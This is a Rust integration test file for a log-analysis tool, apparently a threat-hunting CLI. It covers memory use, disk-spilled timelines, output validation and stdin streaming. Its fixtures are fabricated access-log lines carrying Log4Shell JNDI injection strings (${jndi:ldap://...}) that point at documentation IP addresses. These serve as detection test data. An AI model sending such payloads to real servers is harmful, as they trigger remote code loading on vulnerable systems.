//! The run's chain end to end: memory stays flat however many findings a log produces, the
//! spilled timeline is byte for byte the in-memory one, and outputs are checked before any log
//! is read (issue 17 cases 1 and 6).

mod common;

use common::{jsonl, spoor};
use serde_json::Value;
use std::io::Write;
use std::path::Path;

/// `n` copies of one access-log line that a pack rule (Log4Shell) reports, gzip-compressed.
fn flood(path: &Path, n: usize) {
    let f = std::fs::File::create(path).unwrap();
    let mut gz = flate2::write::GzEncoder::new(f, flate2::Compression::fast());
    let line = b"203.0.113.9 - - [12/Jul/2024:10:00:00 +0000] \"GET /?q=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\" 200 512 \"-\" \"curl/8.0\"\n";
    for _ in 0..n {
        gz.write_all(line).unwrap();
    }
    gz.finish().unwrap();
}

fn summary(lines: &[Value]) -> &Value {
    &lines.last().unwrap()["summary"]
}

#[test]
fn issue17_a_flood_of_matching_lines_keeps_memory_flat() {
    let dir = tempfile::tempdir().unwrap();
    let (small, large) = (
        dir.path().join("small.log.gz"),
        dir.path().join("large.log.gz"),
    );
    flood(&small, 20_000);
    flood(&large, 400_000);
    let run = |p: &Path, extra: &[&str]| {
        let out = spoor()
            .args(["hunt", "-f", "jsonl"])
            .args(extra)
            .arg(p)
            .output()
            .unwrap();
        common::assert_exit_0(&out);
        jsonl(&out.stdout)
    };
    let a = run(&small, &[]);
    let b = run(&large, &[]);
    // One finding stands for every copy of the line.
    let findings: Vec<&Value> = b.iter().filter(|l| l.get("rule").is_some()).collect();
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0]["count"], 400_000);
    let (ra, rb) = (
        summary(&a)["peak_rss_bytes"].as_u64().unwrap(),
        summary(&b)["peak_rss_bytes"].as_u64().unwrap(),
    );
    assert!(
        rb <= ra + ra / 4 + (16 << 20),
        "20x the findings took {rb} bytes against {ra}"
    );
    // Hidden by --min-level, they are never stored at all.
    let c = run(&large, &["--min-level", "critical"]);
    assert_eq!(summary(&c)["findings"], 0);
    let rc = summary(&c)["peak_rss_bytes"].as_u64().unwrap();
    assert!(rc <= ra + ra / 4 + (16 << 20), "{rc} against {ra}");
}

#[test]
fn a_spilled_timeline_is_the_in_memory_one() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("access.log");
    let mut text = String::new();
    for i in 0..6_000u32 {
        text.push_str(&format!(
            "198.51.100.{} - - [12/Jul/2024:{:02}:{:02}:{:02} +0000] \"GET /?x=${{jndi:ldap://203.0.113.{}:1389/a{}}} HTTP/1.1\" 200 {} \"-\" \"curl/8.0\"\n",
            i % 250,
            (i / 3600) % 24,
            (i * 7 / 60) % 60,
            (i * 13) % 60,
            i % 200,
            i % 500,
            100 + i % 900
        ));
    }
    std::fs::write(&log, text).unwrap();
    let run = |budget: &str| {
        let out = spoor()
            .args(["hunt", "-f", "jsonl", "--sort-memory", budget])
            .arg(&log)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0));
        let mut lines = jsonl(&out.stdout);
        let s = lines.pop().unwrap();
        (lines, s["summary"]["spilled_bytes"].as_u64().unwrap_or(0))
    };
    let (disk, spilled) = run("1");
    let (memory, none) = run("1024");
    assert!(
        spilled > 1 << 20,
        "the 1 MiB budget spilled {spilled} bytes"
    );
    assert_eq!(none, 0);
    assert!(memory.len() > 5_000);
    assert_eq!(disk, memory);
}

#[test]
fn issue17_outputs_are_checked_before_the_first_log_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let good = dir.path().join("out.jsonl");
    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/logs");
    let out = spoor()
        .args(["hunt", "-o"])
        .arg(&good)
        .arg("--html")
        .arg(dir.path().join("no/such/folder/report.html"))
        .arg(&examples)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("cannot create") && err.contains("report.html: does not exist"),
        "the output is named once, the reason in words: {err}"
    );
    assert!(!err.contains("os error"), "{err}");
    // Nothing was hunted: no progress, no summary line.
    assert!(!err.contains("events"), "{err}");
    assert_eq!(std::fs::read(&good).unwrap_or_default().len(), 0);
}

#[test]
fn issue17_standard_input_is_read_as_a_stream() {
    let mut text = String::new();
    for i in 0..5_000u32 {
        text.push_str(&format!(
            "198.51.100.{} - - [12/Jul/2024:10:00:{:02} +0000] \"GET /p{i} HTTP/1.1\" 200 5 \"-\" \"ua\"\n",
            i % 250,
            i % 60
        ));
    }
    text.push_str("203.0.113.9 - - [12/Jul/2024:11:00:00 +0000] \"GET /?q=${jndi:ldap://203.0.113.9/a} HTTP/1.1\" 200 5 \"-\" \"ua\"\n");
    for name in ["-", "/dev/stdin"] {
        let out = spoor()
            .args(["hunt", "-f", "jsonl", name])
            .write_stdin(text.clone())
            .output()
            .unwrap();
        assert_eq!(
            out.status.code(),
            Some(0),
            "{name}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let lines = jsonl(&out.stdout);
        let s = summary(&lines);
        assert_eq!(s["events"], 5_001, "{name}");
        assert_eq!(s["files"][0]["format"], "access", "{name}");
        let hits: Vec<&Value> = lines.iter().filter(|l| l.get("rule").is_some()).collect();
        assert_eq!(hits.len(), 1, "{name}");
        assert_eq!(hits[0]["source"]["line"], 5_001);
    }
}
